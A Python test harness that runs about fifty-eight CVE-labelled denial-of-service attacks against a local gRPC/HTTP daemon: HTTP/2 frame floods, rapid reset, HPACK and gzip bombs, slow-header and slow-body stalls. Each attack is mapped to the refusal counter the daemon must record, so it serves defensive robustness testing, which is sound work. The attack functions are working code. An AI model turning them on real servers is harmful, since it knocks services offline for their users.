"""Attacks on the daemon's ports, each a function that does its worst on new connections.

As a program, `front_attackers.py NAME SECONDS GRPC_PORT HTTP_PORT METRICS_PORT` repeats one of them for a time and prints what
it sent, as JSON. It has a process of its own, so that its work takes no time from the clients that are measured, and an
address of its own, because the daemon accounts for each client by its address."""

import contextlib
import functools
import gzip
import itertools
import json
import random
import socket
import struct
import sys
import threading
import time

import http2_frames as h2

MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
MODEL_STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
SERVER_LIVE = "/inference.GRPCInferenceService/ServerLive"
RESTORE = "/saccade.v1.Vision/Restore"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
MIB = 1 << 20


class Attack:
    """The daemon's ports, the time that is left, and the connections of one round."""

    def __init__(self, seconds, ports, source):
        self.grpc_port, self.http_port, self.metrics_port = ports
        self._source = source
        self._begun = time.monotonic()
        self._end = self._begun + seconds
        self._round, self._pause = [], threading.Event()
        self.sent, self.rounds = 0, 0

    def running(self):
        return time.monotonic() < self._end

    def _timeout(self):
        return max(0.05, self._end - time.monotonic())

    def connect(self, port=None, **options):
        """An HTTP/2 connection, to the gRPC port unless another is given. It never answers by itself."""
        made = h2.Connection(port or self.grpc_port, polite=False, source=self._source, **options)
        made.socket.settimeout(self._timeout())
        self._round.append(made)
        return made

    def plain(self, port):
        """A connection that has sent nothing."""
        made = socket.socket()
        made.settimeout(self._timeout())
        made.bind((self._source, 0))
        made.connect(("127.0.0.1", port))
        self._round.append(made)
        return made

    def send(self, connection, data):
        connection.sendall(data)
        self.sent += len(data)

    def streams(self):
        """Numbers of new streams, as long as there is time."""
        return itertools.takewhile(lambda _: self.running(), range(1, 2**31, 2))

    def wait(self, seconds):
        self._pause.wait(min(seconds, self._timeout()))

    def wait_for_end(self):
        self._pause.wait(self._timeout())

    def repeat(self, act):
        while self.running():
            # The daemon may end a connection at any time, and stop to read from it.
            with contextlib.suppress(OSError, EOFError):
                act(self)
            self.rounds += 1
            for one in self._round:
                self.sent += getattr(one, "sent", 0)
                one.close()
            self._round.clear()
            self.wait(0.01)

    def report(self):
        return {"sent": self.sent, "rounds": self.rounds, "seconds": time.monotonic() - self._begun}


def flood(attack, connection, frames):
    """Sends the same frames again and again, without reading."""
    many = frames * max(1, h2.MAX_FRAME // len(frames))
    while attack.running():
        connection.send(many)


def ping_flood(attack):
    """CVE-2019-9512."""
    flood(attack, attack.connect(), h2.ping())


def settings_flood(attack):
    """CVE-2019-9515."""
    flood(attack, attack.connect(), h2.settings({h2.INITIAL_WINDOW_SIZE: 70000}))


def settings_in_one_frame(attack):
    """Settings are few; one frame may repeat them 2,700 times."""
    repeated = struct.pack(">HI", h2.HEADER_TABLE_SIZE, 0) + struct.pack(">HI", h2.HEADER_TABLE_SIZE, 4096)
    flood(attack, attack.connect(), h2.frame(h2.SETTINGS, 0, 0, repeated * 1300))


def priority_loop(attack):
    """CVE-2019-9513: streams that depend on each other in a circle, turned again and again."""
    turn = [h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", parent, 255))
            for stream, parent in ((1, 3), (3, 5), (5, 1), (1, 5), (5, 3), (3, 1))]
    flood(attack, attack.connect(), b"".join(turn))


def empty_data(attack):
    """CVE-2019-9518."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, h2.frame(h2.DATA, 0, 1))


def padding_only(attack):
    """DATA frames that are all padding: they use up windows and carry nothing."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255)))


def unknown_frames(attack):
    """Frames of types that do not exist must be ignored."""
    flood(attack, attack.connect(), h2.frame(0xEE, 0xFF, 0, b""))


def window_updates(attack):
    flood(attack, attack.connect(), h2.window_update(0, 1))


def window_update_of_zero(attack):
    connection = attack.connect()
    connection.send(h2.window_update(0, 0))
    connection.await_end()


def window_that_overflows(attack):
    connection = attack.connect()
    connection.send(h2.window_update(0, 2**31 - 1), h2.window_update(0, 2**31 - 1))
    connection.await_end()


def rapid_reset(attack):
    """CVE-2023-44487."""
    connection = attack.connect()
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, WATCH), h2.data(stream, h2.message(b"")), h2.reset(stream))


def made_to_reset(attack):
    """CVE-2025-8671: the daemon is made to reset the streams itself."""
    connection = attack.connect()
    for stream in attack.streams():
        # More window than there can be.
        connection.send(h2.open_grpc(stream, WATCH), h2.window_update(stream, 2**31 - 1))


def reset_by_wrong_heads(attack):
    """CVE-2019-9514: each head is wrong in a way that ends its stream alone."""
    connection = attack.connect()
    wrong = h2.block([(":method", "POST"), (":path", "/"), ("Upper", "case")])
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, wrong))


def streams_without_end(attack):
    """Streams are opened and never ended; the daemon's SETTINGS are never acknowledged."""
    connection = attack.connect()
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, WATCH))


def continuations(attack):
    """CVE-2024-27983 and others: a head without an end."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.block(h2.grpc_fields(CHECK))))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1, h2.literal("a", "b" * 1000) * 16))


def empty_continuations(attack):
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1))


def continuations_byte_by_byte(attack):
    """230 frames a second; with gRPC's server this took most of a core."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1))
    for value in itertools.takewhile(lambda _: attack.running(), h2.literal("a", "b" * 10_000)):
        connection.send(h2.frame(h2.CONTINUATION, 0, 1, bytes([value])))
        attack.wait(1 / 230)


def references_to_a_large_field(attack):
    """CVE-2016-1544: 16 kB of head that stand for 64 MB."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK)) + h2.literal("a", "b" * 4000, indexed=True)
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head + h2.reference(62) * (h2.MAX_FRAME - len(head))))


def many_fields(attack):
    """CVE-2019-9516 had names and values without a byte; here they have one each."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK, [("a", "b")] * 500))
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head))


def fields_without_names(attack):
    """CVE-2019-9516."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK)) + h2.literal("", "") * 100
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head))


def number_without_end(attack):
    """CVE-2023-33953: an integer of HPACK that goes on for ever."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1, b"\x00\x7f" + b"\x80" * 10_000))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1, b"\x80" * 10_000))


def table_sizes(attack):
    """CVE-2023-33953: a head of changes of the dynamic table's size."""
    connection = attack.connect()
    changes = (h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)) * 4000
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, changes + h2.block(h2.grpc_fields(CHECK))))


def large_frames(attack):
    """Frames that claim 16 MB."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, b"\xff\xff\xff" + bytes([h2.DATA, 0, 0, 0, 0, 1]) + bytes(h2.MAX_FRAME))


def garbage(attack):
    random_bytes = random.Random(1)
    for _ in range(20):
        attack.send(attack.plain(attack.grpc_port), random_bytes.randbytes(2000) + b"\r\n\r\n")
    attack.wait(0.05)


def damaged_frames(attack):
    """A connection that begins well, then frames at random, which are valid more often than bytes at random."""
    choose = random.Random(attack.rounds)
    connection = attack.connect()
    for _ in range(1000):
        some = choose.randbytes(choose.randrange(50))
        payload = choose.choice([b"", choose.randbytes(4), some, h2.block(h2.grpc_fields(CHECK))])
        connection.send(h2.frame(choose.randrange(11), choose.randrange(256), choose.randrange(6), payload))


def get(stream, path):
    fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(fields))


def answers_byte_by_byte(attack):
    """CVE-2019-9511: each answer is asked for in single bytes."""
    connection = attack.connect(attack.metrics_port, values={h2.INITIAL_WINDOW_SIZE: 0})
    streams = range(1, 401, 2)
    connection.send(*(get(stream, "/metrics") for stream in streams))
    while attack.running():
        for stream in streams:
            connection.send(h2.window_update(stream, 1))
        attack.wait(0.2)


def answers_that_nobody_reads(attack):
    """CVE-2019-9517: the windows are open and the socket is never read, on forty connections."""
    for _ in range(40):
        connection = attack.connect(attack.metrics_port, values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
        connection.send(h2.window_update(0, 2**30), *(get(stream, "/metrics") for stream in range(1, 401, 2)))
    attack.wait_for_end()


def stream_of_unread_answers(attack):
    """One call whose many small questions have large answers."""
    connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
    connection.send(h2.window_update(0, 2**30), h2.open_grpc(1, REFLECTION))
    symbol = b"inference.GRPCInferenceService"
    question = h2.message(bytes([0x22, len(symbol)]) + symbol)
    while attack.running():
        if connection.upload(1, question * 1000, end=False):
            return


# Headers that gRPC's servers have ended at (CVE-2023-1428, CVE-2023-32731), or gave a meaning to.
ODD_FIELDS = [("grpclb_client_stats", "x"), ("te", "x"), ("lb-cost-bin", "AAAA"), ("grpc-server-stats-bin", "AA"),
              ("grpc-tags-bin", "A"), ("grpc-trace-bin", "AA"), ("grpc-timeout", "9" * 30), ("grpc-encoding", "none"),
              ("grpc-previous-rpc-attempts", "x"), ("grpc-retry-pushback-ms", "-1"), ("host", "x"), ("content-length", "-1"),
              ("user-agent", "\x7f"), ("grpc-message", "%"), ("grpc-status", "99"), ("x-bin", "!"), (":status", "200")]


def odd_fields(attack):
    connection = attack.connect()
    for stream, field in zip(attack.streams(), itertools.cycle(ODD_FIELDS)):
        connection.send(h2.open_grpc(stream, CHECK, [field]), h2.data(stream, h2.message(b"")))
        attack.wait(0.01)


GZIP = [("grpc-encoding", "gzip")]


def bomb_for_health(attack):
    """8.35 MB that are 8.6 GB."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, CHECK, GZIP))
    # It may be refused as soon as its length is known.
    if not connection.upload(1, h2.message(h2.gzip_bomb(8600 * MIB), compressed=True)):
        connection.answer(1)


def bomb_for_inference(attack):
    """The same where messages may be large."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
    if not connection.upload(1, h2.message(h2.gzip_bomb(8600 * MIB), compressed=True)):
        connection.answer(1)


def gzip_of_nothing(size):
    """About `size` bytes of blocks that hold nothing, and gzip's end with the checksum of nothing."""
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + b"\0\0\0\xff\xff" * (size // 5) + b"\x01\0\0\xff\xff" + bytes(8)


def empty_blocks(attack):
    """48 MiB that are nothing: the size of what comes of them bounds no work."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
    connection.upload(1, h2.message(gzip_of_nothing(48 * MIB), compressed=True))
    connection.answer(1)


def empty_blocks_over_http(attack):
    one = attack.plain(attack.http_port)
    head = "GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    body = gzip_of_nothing(48 * MIB)
    attack.send(one, (head % len(body)).encode() + body)
    one.recv(1000)


def descriptions_that_nobody_reads(attack):
    """Questions of few bytes and without a token, whose answers are the descriptions of all messages."""
    symbol = b"inference.GRPCInferenceService"
    question = h2.message(bytes([0x22, len(symbol)]) + symbol)
    for _ in range(40):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0}, receive_buffer=4096)
        for stream in range(1, 401, 2):
            connection.send(h2.open_grpc(stream, REFLECTION), h2.data(stream, question, end=False))
    attack.wait_for_end()


def long_ids(attack):
    """Streams of requests that are wrong, whose ids and names come back, or would if they were not too long."""
    for length in (1000, 60_000):
        text = varint(length) + b"x" * length
        request = h2.message(gzip.compress(b"\x0a" + text + b"\x12" + text + b"\x1a" + text), compressed=True)
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0})
        for stream in range(1, 401, 2):
            connection.send(h2.open_grpc(stream, MODEL_STREAM_INFER, GZIP), h2.data(stream, request * 100, end=False))
    attack.wait_for_end()


def bomb_of_empty_inputs(attack):
    """61 kB that are 30 million inputs without a field; gRPC's server took 6.2 GiB for them."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
    connection.upload(1, h2.message(h2.gzip_bomb(60 * MIB, b"\x2a\x00" * (MIB // 2)), compressed=True))
    connection.answer(1)


def empty_inputs(attack):
    """32 MiB of the same, uncompressed."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    connection.upload(1, h2.message(b"\x2a\x00" * (16 * MIB)))
    connection.answer(1)


def unknown_fields(attack):
    """15 kB that are five million fields nobody knows, in a question that needs no token."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, SERVER_LIVE, GZIP))
    connection.upload(1, h2.message(h2.gzip_bomb(15 * MIB, b"\xa0\x06\x01" * (MIB // 3)), compressed=True))
    connection.answer(1)


def empty_objects_over_http(attack):
    """62.9 MB of JSON that is twenty million pictures without a member; protobuf's parser took 18 seconds."""
    one = attack.plain(attack.http_port)
    begin, end = b'{"model":"served","clip":{"frames":{"pictures":[', b"{}]}}}"
    middle = b"{}," * MIB
    length = len(begin) + 20 * len(middle) + len(end)
    head = "POST /v1/predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
    attack.send(one, (head % length).encode() + begin)
    for _ in range(20):
        attack.send(one, middle)
    attack.send(one, end)
    one.recv(1000)


def unfinished_messages(attack):
    """Sixteen messages of 60 MiB at once, of which the last byte never comes."""
    connection = attack.connect()
    streams = list(range(1, 33, 2))
    for stream in streams:
        connection.send(h2.open_grpc(stream, MODEL_INFER))
        connection.upload(stream, h2.message(bytes(1000), length=60 * MIB), end=False)
    at = {stream: 1000 for stream in streams}
    while attack.running():
        open_now = [stream for stream in streams if at[stream] < 60 * MIB - MIB]
        able = [stream for stream in open_now if min(connection.window(0), connection.window(stream)) > 0]
        for stream in able:
            size = min(h2.MAX_FRAME, connection.window(0), connection.window(stream))
            if size > 0 and connection.upload(stream, bytes(size), end=False):
                streams.remove(stream)
            at[stream] += size
        if not able:
            got = connection.next()
            if got.ends_stream and got.stream in streams:
                streams.remove(got.stream)


def claims(attack):
    """Messages that claim 60 MiB, and of which nothing comes."""
    connection = attack.connect()
    for stream in range(1, 401, 2):
        connection.send(h2.open_grpc(stream, MODEL_INFER), h2.data(stream, h2.message(b"", length=60 * MIB), end=False))
    attack.wait(1)


def messages_byte_by_byte(attack):
    """Messages that claim 1 MiB and come in frames of a byte."""
    connection = attack.connect()
    streams = range(1, 17, 2)
    for stream in streams:
        connection.send(h2.open_grpc(stream, MODEL_INFER), h2.data(stream, h2.message(b"", length=MIB), end=False))
    while attack.running():
        for stream in streams:
            connection.send(h2.data(stream, b"\x0a", end=False))
        attack.wait(0.04)


def varint(value):
    return bytes([value & 0x7F | 0x80]) + varint(value >> 7) if value > 0x7F else bytes([value])


def volume_that_never_comes(attack, whole=128 * MIB):
    """Restore is told how large the volume will be. First as much as the daemon has room for, then half of it."""
    connection = attack.connect()
    for stream, size in ((1, whole), (3, whole // 2 - MIB)):
        header = b"\x0a\x06served" + b"\x28" + varint(size)
        request = b"\x0a" + varint(len(header)) + header
        connection.send(h2.open_grpc(stream, RESTORE), h2.data(stream, h2.message(request), end=False))
    attack.wait_for_end()


def bodies_that_never_come(attack):
    """500 requests over HTTP/1.1 that announce 60 MB each."""
    head = b"POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000000\r\n\r\n" + b"[" * 100
    for _ in range(500):
        with contextlib.suppress(ConnectionError):
            attack.send(attack.plain(attack.http_port), head)
    attack.wait(0.5)


def heads_byte_by_byte(attack, port=None, count=24):
    """Slow heads over HTTP/1.1, to the metrics port, on which probes depend."""
    opened = [attack.plain(port or attack.metrics_port) for _ in range(count)]
    for value in b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 10_000:
        for one in list(opened):
            try:
                attack.send(one, bytes([value]))
            except OSError:
                opened.remove(one)
        if not opened or not attack.running():
            return
        attack.wait(0.5)


def half_heads(attack):
    """Heads over HTTP/2 of which the end never comes."""
    for _ in range(50):
        attack.connect().send(h2.frame(h2.HEADERS, 0, 1, h2.block(h2.grpc_fields(CHECK))))
    attack.wait_for_end()


def silence(attack):
    """Connections that say nothing, to all ports."""
    for port in (attack.grpc_port, attack.http_port, attack.metrics_port):
        for _ in range(100):
            attack.plain(port)
    attack.wait_for_end()


def headers_without_end(attack):
    one = attack.plain(attack.http_port)
    attack.send(one, b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    while attack.running():
        attack.send(one, b"A: b\r\n" * 1000)


def chunks_of_one_byte(attack):
    """CVE-2023-39326: each chunk of a byte has an extension of a kilobyte."""
    one = attack.plain(attack.http_port)
    attack.send(one, b"POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
    chunk = b"1;" + b"x" * 1000 + b"\r\n[\r\n"
    while attack.running():
        attack.send(one, chunk * 16)


def pipeline_that_nobody_reads(attack):
    one = attack.plain(attack.metrics_port)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    while attack.running():
        attack.send(one, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)


def bomb_over_http(attack):
    one = attack.plain(attack.http_port)
    bomb = h2.gzip_bomb(8600 * MIB)
    head = "POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    attack.send(one, (head % len(bomb)).encode() + bomb)
    one.recv(1000)


def commas_in_a_binary_header(attack):
    """16 kB of head that stand for 56 MB: a proxy joins values by commas, and each has the name."""
    connection = attack.connect()
    fields = h2.grpc_fields(WATCH, [("a" * 8000 + "-bin", "," * 7000)])
    for stream in attack.streams():
        connection.send(h2.head(stream, fields))


def references_in_trailers(attack):
    """Fields that are not used, of which each byte stands for 4,000."""
    connection = attack.connect()
    trailers = h2.literal("a", "b" * 4000, indexed=True)
    trailers += h2.reference(62) * (h2.MAX_FRAME - len(trailers))
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, CHECK), h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, trailers))


def types_that_errors_repeat(attack):
    """Refusals that nobody reads, of a field that costs a byte."""
    fields = [field for field in h2.grpc_fields(CHECK) if field[0] != "content-type"]
    for _ in range(40):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
        head = h2.block(fields) + h2.literal("content-type", "application/grpc-" + "%" * 3900, indexed=True)
        connection.send(h2.window_update(0, 2**30), h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, head))
        again = h2.block(fields) + h2.reference(62)
        connection.send(*(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, again) for stream in range(3, 401, 2)))
    attack.wait_for_end()


def chunk_that_is_none_after_a_bomb(attack):
    """The body is refused while its first message is still decompressed: the call answers after the request has ended."""
    message = h2.message(h2.gzip_bomb(2 * MIB), compressed=True)
    head = (f"POST {MODEL_STREAM_INFER} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/grpc-web+proto\r\ngrpc-encoding: gzip\r\n"
            f"Transfer-Encoding: chunked\r\n\r\n{len(message):x}\r\n")
    for _ in range(20):
        attack.send(attack.plain(attack.http_port), head.encode() + message + b"\r\nZZ\r\n")
    attack.wait(0.1)


def small_bombs_at_once(attack):
    """200 calls in one packet, each of a kilobyte that becomes a mebibyte."""
    connection = attack.connect()
    bomb = h2.message(h2.gzip_bomb(MIB), compressed=True)
    connection.send(*(h2.open_grpc(stream, CHECK, GZIP) + h2.data(stream, bomb) for stream in range(1, 401, 2)))
    connection.answer(1)


@functools.cache
def shape_of_millions():
    """A ModelInferRequest whose input has four million extents, and is 8 MiB, compressed."""
    shape = b"\x90\x4e" * (4 * MIB)
    tensor = b"\x0a\x01a" + b"\x12\x04FP32" + b"\x1a" + varint(len(shape)) + shape
    return gzip.compress(b"\x0a\x01x" + b"\x2a" + varint(len(tensor)) + tensor, 1)


def shapes_that_errors_repeat(attack):
    """The error prints the shape, and nobody reads it."""
    for _ in range(10):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0}, receive_buffer=4096)
        for stream in range(1, 9, 2):
            connection.send(h2.open_grpc(stream, MODEL_STREAM_INFER, GZIP))
            connection.upload(stream, h2.message(shape_of_millions(), compressed=True), end=False)
    attack.wait_for_end()


def header_that_is_kept(attack):
    """Restore keeps the header of a volume; this one has fields that nobody knows, and no volume follows."""
    header = b"\x0a\x06served" + b"\x28\x04" + varint(1000 << 3 | 2) + varint(4 * MIB) + bytes(4 * MIB)
    request = gzip.compress(b"\x0a" + varint(len(header)) + header, 1)
    connection = attack.connect()
    for stream in range(1, 121, 2):
        connection.send(h2.open_grpc(stream, RESTORE, GZIP))
        connection.upload(stream, h2.message(request, compressed=True), end=False)
    attack.wait_for_end()


# What each is refused as: reasons of saccade_front_refusals_total, of which at least one must have counted. None: nothing
# is refused, or in another place than in the front.
ATTACKS = {
    ping_flood: "control_frames",
    settings_flood: "control_frames",
    settings_in_one_frame: "control_frames malformed",
    priority_loop: "control_frames",
    empty_data: "control_frames",
    padding_only: None,
    unknown_frames: None,
    window_updates: "control_frames",
    window_update_of_zero: "malformed",
    window_that_overflows: "malformed",
    rapid_reset: "resets",
    made_to_reset: "resets",
    reset_by_wrong_heads: "resets malformed",
    streams_without_end: "streams",
    continuations: "continuations head_too_large",
    empty_continuations: "continuations",
    continuations_byte_by_byte: "continuations",
    references_to_a_large_field: "head_too_large",
    many_fields: "head_too_large",
    fields_without_names: "malformed resets",
    number_without_end: "malformed continuations",
    table_sizes: "malformed head_too_large",
    large_frames: "malformed",
    garbage: "malformed",
    damaged_frames: "malformed control_frames",
    answers_byte_by_byte: None,
    answers_that_nobody_reads: None,
    stream_of_unread_answers: None,
    odd_fields: None,
    bomb_for_health: "body_too_large",
    bomb_for_inference: "bytes decompressed_too_large",
    empty_blocks: None,
    empty_blocks_over_http: None,
    bomb_of_empty_inputs: "decompressed_too_large",
    empty_inputs: None,
    unknown_fields: None,
    empty_objects_over_http: None,
    unfinished_messages: "bytes",
    claims: "bytes",
    messages_byte_by_byte: "stalled_upload",
    volume_that_never_comes: None,
    bodies_that_never_come: "bytes",
    heads_byte_by_byte: "head_timeout",
    half_heads: "head_timeout",
    silence: None,
    headers_without_end: "head_too_large",
    chunks_of_one_byte: "malformed body_too_large head_too_large",
    pipeline_that_nobody_reads: None,
    bomb_over_http: "bytes decompressed_too_large body_too_large",
    commas_in_a_binary_header: None,
    references_in_trailers: "head_too_large",
    types_that_errors_repeat: None,
    chunk_that_is_none_after_a_bomb: "malformed",
    small_bombs_at_once: "decompressed_too_large",
    shapes_that_errors_repeat: None,
    header_that_is_kept: None,
    # Last, because their many small answers leave free memory in pieces, which others cannot use.
    descriptions_that_nobody_reads: "bytes",
    long_ids: None,
}
# Seconds of a core that one round may take. Decompression takes some 6 ms a MiB, and a message with tensors may grow to 16 MiB,
# because tensors of zeros do.
DEAR = {bomb_of_empty_inputs: 0.15}
# Those that are ended by a time limit, which the tests set to a second, and those that send megabytes before anything is refused.
SLOW = {claims, messages_byte_by_byte, heads_byte_by_byte, half_heads, unfinished_messages, bomb_for_health, bomb_for_inference, bomb_over_http,
        empty_inputs, empty_objects_over_http, empty_blocks, empty_blocks_over_http, types_that_errors_repeat,
        shapes_that_errors_repeat, header_that_is_kept}
BY_NAME = {attack.__name__: attack for attack in ATTACKS}


def source_of(name):
    return f"127.0.1.{2 + list(BY_NAME).index(name)}"


def main(name, seconds, *ports):
    attack = Attack(float(seconds), map(int, ports), source_of(name))
    attack.repeat(BY_NAME[name])
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main(*sys.argv[1:])
